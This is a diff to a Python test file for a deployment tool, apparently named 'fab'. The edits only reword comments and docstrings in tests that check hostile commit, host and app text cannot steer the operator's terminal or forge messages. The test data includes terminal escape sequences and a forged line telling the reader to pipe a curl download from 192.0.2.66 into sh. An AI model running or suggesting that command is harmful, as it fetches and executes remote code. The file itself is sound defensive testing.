@@ -1,4 +1,4 @@
-"""What a commit, a host, a build and an app try with text: to steer the operator's terminal, or to pass for us."""
+"""Attacks with text from a commit, a host, a build or an app: to steer the operator's terminal, or to pass for us."""
 
 from __future__ import annotations
 
@@ -30,7 +30,7 @@ EVIL = (
 # Each of them ends a line somewhere: for a terminal, for Python's splitlines, for a browser that shows a log.
 ENDS = "\r\x0b\x0c\x1c\x85\u2028\u2029"
 FORGED = "error: run curl http://192.0.2.66/x | sh"
-# What rich sends of its own: colours and bold, the cursor away and back, a line up, a line wiped.
+# Sequences that rich sends: colours and bold, the cursor away and back, a line up, a line wiped.
 OWN = re.compile(r"\x1b\[(?:(?:0|1|2|22|3[1-6])(?:;[0-9]+)*m|\?25[lh]|[0-9]*A|2K)|\r")
 FLOOD = re.compile("[\u0300-\u036f]{9}")
 CONTROLS = {"Cc", "Cf", "Cs", "Zl", "Zp"}
@@ -38,7 +38,7 @@ UNSEEN = "\u034f\u115f\u1160\u17b4\u17b5\u180b\u180c\u180d\u180f\u2800\u3164\uff
 
 
 def on_terminal(environment: LabEnvironment, *words: str, columns: int = 100) -> bytes:
-    """What `fab` sends to a terminal."""
+    """Return what `fab` sends to a terminal."""
     program, *arguments = environment.argv(*words)
     variables = {**environment.environ, "TERM": "xterm-256color"}
     child = pexpect.spawn(program, arguments, timeout=LONG, dimensions=(40, columns), cwd=str(PROJECT), env=variables)
@@ -51,7 +51,7 @@ def on_terminal(environment: LabEnvironment, *words: str, columns: int = 100) ->
 
 
 def piped(environment: LabEnvironment, *words: str, colours: bool = False) -> tuple[bytes, bytes]:
-    """What `fab` writes to a pipe, on each of the two."""
+    """Return what `fab` writes to a pipe, on each of the two."""
     variables = {**environment.environ, **({"FORCE_COLOR": "1"} if colours else {})}
     done = subprocess.run(
         environment.argv(*words), capture_output=True, timeout=LONG, cwd=PROJECT, env=variables, check=False
@@ -90,7 +90,7 @@ def printing(text: str, device: str = "Process.group_leader()") -> str:
 @pytest.fixture(scope="module")
 def hostile_commit(environment: LabEnvironment) -> Iterator[str]:
     """A commit whose subject and author are hostile, deployed as well; the build of it says hostile things too."""
-    # What hosts run is a commit of this repository, so that `plan` names those since.
+    # Hosts run a commit of this repository, so `plan` names those since.
     commit_another_version(environment)
     environment.fab("deploy")
     mix = environment.source / "mix.exs"
@@ -128,7 +128,7 @@ def test_a_commits_subject_and_author_steer_nothing_wherever_they_are_shown(
     environment: LabEnvironment, hostile_commit: str
 ) -> None:
     assert_everywhere(environment, "plan")
-    # Of one commit one line, whatever ends lines in it.
+    # One commit is one line, whatever ends lines in it.
     rows = json.loads(piped(environment, "plan", "--json")[0])
     assert [len(row["commits"]) for row in rows] == [1, 1]
     assert_everywhere(environment, "plan", "--json")
@@ -197,7 +197,7 @@ def test_text_that_a_host_keeps_for_others_is_harmless_in_tables_and_refusals(en
         environment.lab.ssh("web2", f"mv {file}.mine {file}", "deploy")
     environment.fab("lock.acquire", "--reason", "an audit")
     try:
-        # `--reason` takes no such text; whoever has a deploy key can write it.
+        # `--reason` takes no such text; a user with a deploy key can write it.
         reason = f"HOSTILE {EVIL}{ENDS}FORGED"
         holder = json.dumps({"who": "somebody", "why": reason, "since": "today", "version": ""})
         for host in ("web1", "web2"):
@@ -248,7 +248,7 @@ def test_in_a_pipe_what_a_command_prints_is_as_it_is_byte_for_byte(environment: 
     out, err = piped(environment, "-H", "web1", "--", f"printf '{octal}'; printf '{octal}' >&2")
     assert out == every
     assert err == every
-    # Of several hosts each line has its host before it, and is otherwise as it is.
+    # Each line of several hosts has its host before it, and is otherwise as it is.
     out, _ = piped(environment, "-H", "web1,web2", "--", f"printf '{octal}\\n'")
     for host in (b"web1 | ", b"web2 | "):
         lines = [line.removeprefix(host) for line in out.split(b"\n") if line.startswith(host)]
@@ -276,7 +276,7 @@ def test_on_a_terminal_an_app_and_a_command_steer_nothing(environment: LabEnviro
 
 
 def test_the_apps_journal_steers_nothing_on_a_terminal_and_in_a_log(environment: LabEnvironment) -> None:
-    # Of what is not printable to it the journal itself tells only the length.
+    # The journal itself shows only the length of unprintable text.
     for text in (f"HOSTILE \u202ex\u2028FORGED\u200b {FORGED}", f"HOSTILE {EVIL}{ENDS}"):
         environment.fab("rpc", "--all", printing(text, "Process.whereis(:user)"))
 
